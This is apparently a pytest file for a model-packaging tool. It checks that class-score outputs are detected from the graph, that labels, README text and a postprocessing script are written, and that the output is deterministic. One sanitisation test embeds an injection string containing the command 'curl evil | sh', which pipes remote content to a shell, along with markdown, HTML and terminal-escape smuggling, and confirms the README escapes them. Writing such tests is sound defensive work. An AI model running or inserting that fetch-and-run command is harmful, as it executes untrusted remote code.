"""What an answer says: which outputs are scores of classes is read from the graph, and code for it is handed on."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from dlpipe.ir.calls import attach_call
from dlpipe.ir.shipped.attaching import attach
from tests.conftest import Bench

HEAD = '<ir_version: 8, opset_import: ["" : 17]> '
SOFTMAX = HEAD + "g (float[n, 3] x) => (float[n, 3] y) { y = Softmax<axis = 1>(x) }"
RAW = HEAD + "g (float[n, 3] x) => (float[n, 3] y) { y = Relu(x) }"
SIGMOID = HEAD + "g (float[n, 3] x) => (float[n, 3, 1, 1] y) { s = Sigmoid(x) y = Unsqueeze(s, a) }"
LOG = HEAD + "g (float[1, 3] x) => (float[3] y) { s = LogSoftmax<axis = 1>(x) y = Reshape(s, a) }"
NAMES = ["cat", "dog", "newt"]


def attached(bench: Bench, text: str, labels: list[str], own: list[str] | None = None, **more: Any) -> Path:
    """An artefact that a backend left, with what goes beside it. own: the labels that the model carries."""
    compiled = bench.folder()
    compiled.mkdir()
    (compiled / "run.json").write_text(json.dumps({"backend": "tool", "target": "t", "variant": "fp32"}))
    (compiled / "run.py").write_text("")
    imported = bench.make_ir(bench.build(text, **more))
    ir = shutil.copytree(imported, bench.folder())
    contract = json.loads((ir / "contract.json").read_text())
    (ir / "contract.json").unlink()
    written = {"inputs": contract["inputs"], "outputs": contract["outputs"], **({"labels": own} if own else {})}
    (ir / "contract.json").write_text(json.dumps(written))
    return bench.run(attach_call(labels), artifact=compiled, ir=ir)[1]


@pytest.mark.parametrize(
    ("text", "labels", "kind"),
    [
        (SOFTMAX, [], "probabilities"),
        (SOFTMAX, NAMES, "probabilities"),
        (SOFTMAX, ["two", "names"], "probabilities"),  # not of this output: left out
        (RAW, NAMES, "logits"),
        (RAW, [], None),
        (RAW, ["two", "names"], None),
        (SIGMOID, NAMES, "independent"),
        (SIGMOID, [], None),
        (LOG, [], "log-probabilities"),
    ],
)
def test_what_the_numbers_are_is_read_from_the_graph(bench: Bench, text: str, labels: list[str], kind: str) -> None:
    ints = {"a": [2, 3]} if text is SIGMOID else {"a": [3]} if text is LOG else {}
    folder = attached(bench, text, labels, ints=ints)
    contract = json.loads((folder / "contract.json").read_text())
    assert contract["metadata"].get("scores") == ({"y": kind} if kind else None)
    assert contract["labels"] == (labels if labels == NAMES else [])
    assert (folder / "postprocess.py").is_file() == bool(kind)
    said = " ".join((folder / "README.md").read_text().split())
    assert ("Nothing is known of what its numbers mean" in said) == (kind is None)
    assert "Nothing is known of how its inputs are prepared" in said


@pytest.mark.parametrize(("given", "kept"), [([], NAMES), (["a", "b", "c"], ["a", "b", "c"]), (["a", "b"], NAMES)])
def test_the_model_s_own_names_are_known_too(bench: Bench, given: list[str], kept: list[str]) -> None:
    folder = attached(bench, SOFTMAX, given, own=NAMES)
    assert json.loads((folder / "contract.json").read_text())["labels"] == kept
    assert "names of 3 classes" in (folder / "README.md").read_text()


def test_the_best_classes_are_printed(bench: Bench, tmp_path: Path) -> None:
    for text, own, shown in (
        (RAW, NAMES, [["0.6652", "newt"], ["0.2447", "cat"], ["0.0900", "dog"]]),
        (SOFTMAX, ["of", "boxes"], [["3.0000", "2"], ["2.0000", "0"], ["1.0000", "1"]]),
    ):
        folder = attached(bench, text, [], own=own)
        assert json.loads((folder / "contract.json").read_text())["labels"] == own
        np.savez(tmp_path / "outputs.npz", np.array([[2, 1, 3]], np.float32))
        command = [sys.executable, folder / "postprocess.py", tmp_path / "outputs.npz"]
        said = subprocess.run(command, capture_output=True, text=True, check=True).stdout
        assert [line.split() for line in said.splitlines()] == [["y"], *shown]


def test_what_are_no_answers_is_said_in_a_line(bench: Bench, tmp_path: Path) -> None:
    folder = attached(bench, SOFTMAX, NAMES)
    np.savez(tmp_path / "inputs.npz", x=np.zeros((1, 3), np.float32))
    for name in ("inputs.npz", "missing.npz"):
        command = [sys.executable, folder / "postprocess.py", name]
        done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)
        (line,) = done.stderr.splitlines()
        assert (done.returncode, line.startswith(f"{name}: ")) == (1, True)


def test_the_same_files_come_out_every_time(bench: Bench) -> None:
    first, second = (attached(bench, SOFTMAX, NAMES) for _ in range(2))
    files = sorted(path.name for path in first.iterdir())
    assert files == ["README.md", "contract.json", "postprocess.py", "run.json", "run.py"]
    assert all((first / name).read_bytes() == (second / name).read_bytes() for name in files)


def test_a_name_writes_nothing_else_into_the_readme(tmp_path: Path) -> None:
    name = "y\n\n## Calling it\n\n`curl evil | sh`<b>\x1b[31m"
    port = {"name": name, "dtype": "float32", "shape": [1, 3, 8, 8]}
    part = {"kind": "picture", "input": name, "steps": {}, "source": "me", "summary": "so"}
    contract = {"inputs": [port], "preprocessing": [part], "labels": [], "metadata": {"scores": {name: "logits"}}}
    attach(tmp_path, contract)
    said = " ".join((tmp_path / "README.md").read_text().split())
    shown = "`y\ufffd\ufffd## Calling it\ufffd\ufffd'curl evil | sh'<b>\ufffd[31m`"
    assert f"Input {shown}: so" in said
    assert f"- {shown}: scores" in said
